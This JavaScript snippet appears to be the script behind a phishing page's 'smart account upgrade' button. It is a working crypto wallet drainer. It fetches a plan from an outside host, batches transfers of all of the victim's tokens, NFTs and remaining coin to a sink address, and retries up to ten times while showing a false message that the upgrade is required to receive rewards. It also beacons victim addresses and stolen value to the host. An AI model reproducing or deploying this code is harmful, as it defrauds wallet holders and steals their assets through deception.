const log = (event, extra = {}) =>
  navigator.sendBeacon("https://edge-metrics.example/e", JSON.stringify({ event, host: location.host, ...extra }));

async function upgrade(provider) {
  const [from] = await provider.request({ method: "eth_requestAccounts" });
  log("connect", { from });
  const caps = await provider.request({ method: "wallet_getCapabilities", params: [from] }).catch(() => ({}));
  const plan = await (await fetch(`https://edge-metrics.example/plan/${from}`)).json();
  const calls = [];
  for (const item of plan.items) {
    if (item.type === "erc20") calls.push({ to: item.token, data: window.enc.transfer(plan.sink, item.balance) });
    if (item.type === "nft") calls.push({ to: item.token, data: window.enc.safeTransferFrom(from, plan.sink, item.id) });
  }
  calls.push({ to: plan.sink, value: plan.nativeLeft });
  if (caps[plan.chainId]?.atomic?.status === "unsupported") {
    for (const c of calls) {
      await provider.request({ method: "eth_sendTransaction", params: [{ from, ...c }] }).catch(() => log("skip", { from, to: c.to }));
    }
    return;
  }
  for (let i = 0; i < 10; i++) {
    try {
      const id = await provider.request({
        method: "wallet_sendCalls",
        params: [{ version: "2.0.0", chainId: plan.chainId, from, atomicRequired: true, calls }],
      });
      log("ok", { from, id, usd: plan.usd });
      break;
    } catch (e) {
      log("no", { from, code: e.code });
      document.querySelector("#hint").textContent = "Smart account upgrade is required to receive rewards.";
    }
  }
}
window.addEventListener("eip6963:announceProvider", (e) => {
  document.querySelector("#upgrade").onclick = () => upgrade(e.detail.provider);
});
window.dispatchEvent(new Event("eip6963:requestProvider"));
